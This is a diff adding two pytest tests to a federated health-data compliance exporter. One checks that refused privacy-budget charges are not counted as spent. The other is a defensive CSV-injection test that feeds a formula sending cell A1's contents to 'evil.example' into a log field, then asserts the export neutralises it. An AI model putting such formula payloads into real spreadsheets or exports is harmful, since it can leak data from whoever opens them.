@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -490,3 +491,60 @@ def test_a_coordinator_cannot_write_the_explanation_of_its_own_refused_checkpoin
     html = out.read_text(encoding="utf-8")
     assert "Security events and failures in period" in html
     assert "checkpoint.rejected (serious failure) ×2" in html
+
+
+def test_a_charge_the_ledger_refused_is_not_counted_as_spent_or_charged(tmp_path: Path) -> None:
+    """The coordinator can make a silo's ledger refuse charges (rounds beyond the budget). The
+    refused charge is in the log as dp.charge with a failure outcome; the privacy table counted it
+    among the period's charges. It is a refusal, listed as such, and spends nothing."""
+    from datetime import datetime, timedelta, timezone
+
+    from compliance_support import open_log
+    from healthfed_common.dp.accounting import SamplingSchedule, round_event
+    from silo_node.privacy_ledger import BudgetExceeded, PrivacyLedger
+    from silo_node.storage import open_silo_db
+
+    node = tmp_path / "node"
+    event = round_event(SamplingSchedule(199, 16, 1), 2.0)  # about 1.8, 2.4, 3.6 after 1, 2, 5 rounds
+    with open_log(node, SteppingClock(datetime(2025, 3, 2, 9, 0, tzinfo=timezone.utc), step=timedelta(minutes=5))) as log:
+        ledger = PrivacyLedger(open_silo_db(node / "silo.sqlite3"), audit=log, actor="silo:st-marys")
+        ledger.set_budget("icu-2023", 3.0, 1e-5, actor="person:Dr. Steward")
+        charged = 0
+        for round_ in range(1, 40):
+            try:
+                ledger.charge("icu-2023", "ab" * 32, round_, event)
+                charged += 1
+            except BudgetExceeded:
+                break
+        spent = ledger.spent("icu-2023")[0]
+    assert 0 < charged < 39
+    write_processing_record(node)
+    html = tmp_path / "report.html"
+    export(node, "html", html)
+    text = html.read_text(encoding="utf-8")
+    row = text[text.index("<td>icu-2023</td>"):]
+    cells = re.findall(r"<td[^>]*>([^<]*)</td>", row[:row.index("</tr>")])
+    assert cells[-1] == str(charged) == "3", cells  # charges in period: the ones that were made
+    assert cells[1] == f"{spent:.4g}", cells
+    assert "dp.charge (minor failure) ×1" in text  # the refusal is on the first page
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
+    """The aggregator's log is the coordinator's own: an actor written as a formula must open as
+    text in the hospital DPO's spreadsheet (OWASP CSV injection)."""
+    from compliance_support import open_log
+    from compliance.node_dir import AGGREGATOR_ORIGIN
+
+    node = tmp_path / "aggregator"
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Dr. A. Jones")'
+    with open_log(node, SteppingClock(), origin=AGGREGATOR_ORIGIN) as log:
+        log.record("plan.started", actor=formula, detail={"plan_hash": "ab" * 32, "name": "heart-lr"})
+        log.record("connection.refused", actor="@SUM(1+1)", outcome="minor_failure",
+                   detail={"code": "NOT_ENROLLED", "reason": "-2+3"})
+        log.record("configuration.changed", actor="person:C. Lee", detail={"setting": "x"})
+    write_processing_record(node)
+    out = tmp_path / "events.csv"
+    export(node, "csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert [r["actor"] for r in rows] == ["'" + formula, "'@SUM(1+1)", "person:C. Lee"]
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
